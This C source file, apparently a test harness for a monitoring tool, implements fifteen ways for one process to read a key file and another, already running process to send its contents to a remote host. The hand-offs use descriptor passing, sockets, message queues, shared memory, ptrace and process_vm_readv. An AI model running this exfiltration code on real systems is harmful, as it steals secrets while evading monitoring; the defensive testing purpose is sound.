/* exfiltration_hops HOST PORT KEY WAY DIR: one process reads the file KEY, and another one, which was there
 * before, sends it to HOST. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <err.h>
#include <fcntl.h>
#include <mqueue.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#define MUST(call) must(#call, (long)(call))
enum { ROOM = 4096, FIRST = 100 };

static long must(const char *what, long result)
{
	if (result < 0)
		err(1, "%s", what);
	return result;
}

static const char *host, *port, *key, *directory;
/* What both processes know before the reading: a pair of pipes that only say "done". */
static int done[2], taken[2];
static char data[ROOM];

/* A pause until the other one is as far; the bytes are too few to be data. */
static void say(int *which) { MUST(write(which[1], "!", 1)); }
static void hear(int *which) { char byte; MUST(read(which[0], &byte, 1)); }

static int out(void)
{
	struct sockaddr_in there = { .sin_family = AF_INET, .sin_port = htons(atoi(port)) };
	inet_pton(AF_INET, host, &there.sin_addr);
	int fd = MUST(socket(AF_INET, SOCK_STREAM, 0));
	MUST(connect(fd, (struct sockaddr *)&there, sizeof there));
	return fd;
}

static void send_off(const char *from, size_t size)
{
	int fd = out();
	MUST(write(fd, from, size));
	close(fd);
}

static size_t take(void)
{
	int fd = MUST(open(key, O_RDONLY));
	size_t size = MUST(read(fd, data, ROOM));
	close(fd);
	return size;
}

/* Starts `sender`; the reader goes on. */
static pid_t start(void (*sender)(void))
{
	pid_t child = MUST(fork());
	if (!child) {
		sender();
		exit(0);
	}
	return child;
}

static void finish(pid_t child)
{
	int status;
	MUST(waitpid(child, &status, __WALL));
	if (status)
		errx(1, "the sender ended with %d", status);
}

/* --- descriptors ------------------------------------------------------------------------------- */

static int ends[2];

static void pass(int fd)
{
	char room[CMSG_SPACE(sizeof(int))] = "", byte = 0;
	struct iovec part = { &byte, 1 };
	struct msghdr message = { .msg_iov = &part, .msg_iovlen = 1, .msg_control = room, .msg_controllen = sizeof room };
	struct cmsghdr *passed = CMSG_FIRSTHDR(&message);
	passed->cmsg_level = SOL_SOCKET, passed->cmsg_type = SCM_RIGHTS, passed->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(passed), &fd, sizeof fd);
	MUST(sendmsg(ends[0], &message, 0));
}

static int get(void)
{
	char room[CMSG_SPACE(sizeof(int))], byte;
	struct iovec part = { &byte, 1 };
	struct msghdr message = { .msg_iov = &part, .msg_iovlen = 1, .msg_control = room, .msg_controllen = sizeof room };
	int fd;
	MUST(recvmsg(ends[1], &message, 0));
	memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof fd);
	return fd;
}

static void send_passed(void) { int fd = get(); send_off(data, MUST(read(fd, data, ROOM))); }

/* The open file is passed. */
static void rights(void)
{
	MUST(socketpair(AF_UNIX, SOCK_STREAM, 0, ends));
	pid_t child = start(send_passed);
	pass(MUST(open(key, O_RDONLY)));
	finish(child);
}

static void pass_connection(void) { ends[0] = ends[1]; pass(out()); hear(done); }

/* The connection is passed, to who reads. */
static void connection(void)
{
	MUST(socketpair(AF_UNIX, SOCK_STREAM, 0, ends));
	pid_t child = start(pass_connection);
	ends[1] = ends[0];
	int fd = get();
	MUST(write(fd, data, take()));
	say(done);
	finish(child);
}

static void send_fetched(void)
{
	hear(done);
	int parent = MUST(syscall(SYS_pidfd_open, getppid(), 0));
	int fd = MUST(syscall(SYS_pidfd_getfd, parent, FIRST, 0));
	send_off(data, MUST(pread(fd, data, ROOM, 0)));
}

/* The open file is taken by pidfd_getfd(2). */
static void fetched(void)
{
	pid_t child = start(send_fetched);
	MUST(dup2(MUST(open(key, O_RDONLY)), FIRST));
	say(done);
	finish(child);
}

static void send_inherited(void) { send_off(data, MUST(read(FIRST, data, ROOM))); }

/* The open file is inherited. */
static void inherited(void)
{
	MUST(dup2(MUST(open(key, O_RDONLY)), FIRST));
	finish(start(send_inherited));
}

/* --- messages ---------------------------------------------------------------------------------- */

static struct sockaddr_un name_of(void)
{
	struct sockaddr_un name = { .sun_family = AF_UNIX };
	snprintf(name.sun_path, sizeof name.sun_path, "%s/socket", directory);
	return name;
}

static void send_accepted(void)
{
	int fd = MUST(accept(FIRST, NULL, NULL));
	send_off(data, MUST(read(fd, data, ROOM)));
}

static void named_socket(void)
{
	struct sockaddr_un name = name_of();
	MUST(dup2(MUST(socket(AF_UNIX, SOCK_STREAM, 0)), FIRST));
	MUST(bind(FIRST, (struct sockaddr *)&name, sizeof name));
	MUST(listen(FIRST, 1));
	pid_t child = start(send_accepted);
	int fd = MUST(socket(AF_UNIX, SOCK_STREAM, 0));
	MUST(connect(fd, (struct sockaddr *)&name, sizeof name));
	MUST(write(fd, data, take()));
	finish(child);
}

static void send_message(void) { send_off(data, MUST(read(FIRST, data, ROOM))); }

static void named_datagrams(void)
{
	struct sockaddr_un name = name_of();
	MUST(dup2(MUST(socket(AF_UNIX, SOCK_DGRAM, 0)), FIRST));
	MUST(bind(FIRST, (struct sockaddr *)&name, sizeof name));
	pid_t child = start(send_message);
	close(FIRST);
	int fd = MUST(socket(AF_UNIX, SOCK_DGRAM, 0));
	MUST(sendto(fd, data, take(), 0, (struct sockaddr *)&name, sizeof name));
	finish(child);
}

static void send_queued(void)
{
	hear(done);
	char room[8192];
	mqd_t queue = MUST(mq_open("/sentinel-exfiltration", O_RDONLY));
	send_off(room, MUST(mq_receive(queue, room, sizeof room, NULL)));
}

static void message_queue(void)
{
	mq_unlink("/sentinel-exfiltration");
	mqd_t queue = MUST(mq_open("/sentinel-exfiltration", O_RDWR | O_CREAT, 0600, NULL));
	pid_t child = start(send_queued);
	MUST(mq_send(queue, data, take(), 0));
	say(done);
	finish(child);
	mq_unlink("/sentinel-exfiltration");
}

/* --- memory ------------------------------------------------------------------------------------ */

/* Its first word is the size, once it is there. */
static char *shared;

static void send_shared(void)
{
	hear(done);
	send_off(shared, strlen(shared));
}

static void put_into(char *memory)
{
	shared = memory;
	pid_t child = start(send_shared);
	memcpy(memory, data, take());
	say(done);
	finish(child);
}

static void anonymous(void)
{
	put_into(mmap(NULL, ROOM, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0));
}

static void memfd(void)
{
	int fd = MUST(memfd_create("x", 0));
	MUST(ftruncate(fd, ROOM));
	put_into(mmap(NULL, ROOM, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0));
}

static void posix_memory(void)
{
	char name[64];
	snprintf(name, sizeof name, "/sentinel-exfiltration-%d", getpid());
	int fd = MUST(shm_open(name, O_RDWR | O_CREAT | O_EXCL, 0600));
	MUST(ftruncate(fd, ROOM));
	put_into(mmap(NULL, ROOM, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0));
	shm_unlink(name);
}

static void system_v(void)
{
	int id = MUST(shmget(IPC_PRIVATE, ROOM, IPC_CREAT | 0600));
	char *memory = shmat(id, NULL, 0);
	MUST(shmctl(id, IPC_RMID, NULL));
	put_into(memory);
}

static int send_common(void *nothing)
{
	(void)nothing;
	hear(done);
	send_off(data, strlen(data));
	return 0;
}

/* Another process with the same memory. */
static void common_memory(void)
{
	static char stack[1 << 16];
	pid_t child = MUST(clone(send_common, stack + sizeof stack, CLONE_VM | SIGCHLD, NULL));
	take();
	say(done);
	finish(child);
}

static void *send_in_thread(void *nothing) { send_common(nothing); return NULL; }

static void threads(void)
{
	pthread_t thread;
	pthread_create(&thread, NULL, send_in_thread, NULL);
	take();
	say(done);
	pthread_join(thread, NULL);
}

static void send_peeked(void)
{
	struct iovec here = { data, ROOM }, there = { data, ROOM };
	hear(done);
	MUST(process_vm_readv(getppid(), &here, 1, &there, 1, 0));
	send_off(data, strlen(data));
	say(taken);
}

static void peeked(void)
{
	pid_t child = start(send_peeked);
	take();
	say(done);
	hear(taken);
	finish(child);
}

static void send_traced(void)
{
	pid_t parent = getppid();
	hear(done);
	MUST(ptrace(PTRACE_ATTACH, parent, NULL, NULL));
	MUST(waitpid(parent, NULL, __WALL));
	for (size_t at = 0; at < ROOM / sizeof(long); at++) {
		long word = ptrace(PTRACE_PEEKDATA, parent, data + at * sizeof word, NULL);
		memcpy(data + at * sizeof word, &word, sizeof word);
	}
	MUST(ptrace(PTRACE_DETACH, parent, NULL, NULL));
	send_off(data, strlen(data));
}

static void traced(void)
{
	pid_t child = start(send_traced);
	take();
	say(done);
	finish(child);
}

static const struct { const char *name; void (*done)(void); } WAYS[] = {
	{ "rights", rights }, { "connection", connection }, { "fetched", fetched },
	{ "inherited", inherited }, { "named-socket", named_socket },
	{ "named-datagrams", named_datagrams }, { "message-queue", message_queue },
	{ "anonymous", anonymous }, { "memfd", memfd }, { "posix-memory", posix_memory },
	{ "system-v", system_v }, { "common-memory", common_memory }, { "threads", threads },
	{ "peeked", peeked }, { "traced", traced },
};

int main(int count, char **arguments)
{
	if (count != 6)
		errx(2, "usage: exfiltration_hops HOST PORT KEY WAY DIR");
	host = arguments[1], port = arguments[2], key = arguments[3], directory = arguments[5];
	MUST(pipe(done));
	MUST(pipe(taken));
	for (size_t at = 0; at < sizeof WAYS / sizeof *WAYS; at++)
		if (!strcmp(WAYS[at].name, arguments[4])) {
			WAYS[at].done();
			return 0;
		}
	errx(2, "no way %s", arguments[4]);
}
